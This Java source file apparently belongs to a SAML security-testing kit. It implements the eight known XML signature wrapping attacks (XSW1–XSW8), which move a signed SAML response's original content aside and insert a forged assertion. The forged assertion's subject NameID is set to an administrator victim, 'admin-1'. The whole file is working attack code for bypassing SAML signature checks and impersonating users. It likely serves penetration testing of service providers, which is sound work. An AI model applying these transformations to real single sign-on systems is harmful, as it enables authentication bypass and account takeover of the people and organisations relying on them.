package io.rialto.kit;

import io.rialto.saml.Signed;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The eight signature wrapping attacks as SAML Raider numbers them, after Somorovsky et al., "On Breaking SAML: Be Whoever You
 * Want to Be" (2012). In each the original that was signed is still there, intact, and the forged assertion stands where a
 * careless reader looks.
 */
enum Wrapping {
    /** The original response goes into the forged response's own signature. */
    XSW1(Signed.RESPONSE) {
        @Override
        void wrap(Document document) {
            Element original = takeOriginalOf(response(document));
            signature(document).appendChild(original);
            forge(response(document));
        }
    },
    /** The original response goes before the signature, which is detached now. */
    XSW2(Signed.RESPONSE) {
        @Override
        void wrap(Document document) {
            Element original = takeOriginalOf(response(document));
            response(document).insertBefore(original, signature(document));
            forge(response(document));
        }
    },
    /** A forged assertion stands before the original one. */
    XSW3(Signed.ASSERTION) {
        @Override
        void wrap(Document document) {
            Element original = assertion(document);
            Element forged = takeOriginalOf(original);
            forge(forged);
            response(document).insertBefore(forged, original);
        }
    },
    /** The original assertion goes into a forged one. */
    XSW4(Signed.ASSERTION) {
        @Override
        void wrap(Document document) {
            Element original = assertion(document);
            Element forged = takeOriginalOf(original);
            forge(forged);
            response(document).appendChild(forged);
            forged.appendChild(original);
        }
    },
    /** The signed assertion is forged, and a copy of the original stands at the end. */
    XSW5(Signed.ASSERTION) {
        @Override
        void wrap(Document document) {
            Element forged = assertion(document);
            Element original = takeOriginalOf(forged);
            forge(forged);
            response(document).appendChild(original);
        }
    },
    /** The signed assertion is forged, and a copy of the original hides in its signature. */
    XSW6(Signed.ASSERTION) {
        @Override
        void wrap(Document document) {
            Element forged = assertion(document);
            Element original = takeOriginalOf(forged);
            forge(forged);
            signature(document).appendChild(original);
        }
    },
    /** A forged assertion hides in the response's extensions, where the schema allows anything. */
    XSW7(Signed.ASSERTION) {
        @Override
        void wrap(Document document) {
            Element forged = takeOriginalOf(assertion(document));
            forge(forged);
            Element extensions = document.createElementNS(Xml.SAMLP, "samlp:Extensions");
            extensions.appendChild(forged);
            response(document).insertBefore(extensions, Xml.child(response(document), Xml.SAMLP, "Status"));
        }
    },
    /** The signed assertion is forged, and the original hides in an object of its signature. */
    XSW8(Signed.ASSERTION) {
        @Override
        void wrap(Document document) {
            Element forged = assertion(document);
            Element original = takeOriginalOf(forged);
            forge(forged);
            Element object = document.createElementNS(Xml.DS, "ds:Object");
            object.appendChild(original);
            signature(document).appendChild(object);
        }
    };

    static final String VICTIM = "admin-1";

    final Signed signed;

    Wrapping(Signed signed) {
        this.signed = signed;
    }

    abstract void wrap(Document document);

    static Element response(Document document) {
        return document.getDocumentElement();
    }

    static Element assertion(Document document) {
        return Xml.first(document, Xml.SAML, "Assertion");
    }

    static Element signature(Document document) {
        return Xml.first(document, Xml.DS, "Signature");
    }

    /** A copy without the enveloped signature: exactly what was digested. */
    static Element takeOriginalOf(Element signed) {
        Element copy = (Element) signed.cloneNode(true);
        copy.removeChild(Xml.child(copy, Xml.DS, "Signature"));
        return copy;
    }

    /** Another subject under other IDs, outside of any original inside. */
    static void forge(Element message) {
        message.setAttribute("ID", "_forged" + message.getAttribute("ID"));
        for (Node node = message.getFirstChild(); node != null; node = node.getNextSibling()) {
            if (node instanceof Element element && "Assertion".equals(element.getLocalName())) {
                forge(element);
            }
            if (node instanceof Element element && "Subject".equals(element.getLocalName())) {
                Xml.child(element, Xml.SAML, "NameID").setTextContent(VICTIM);
            }
        }
    }
}
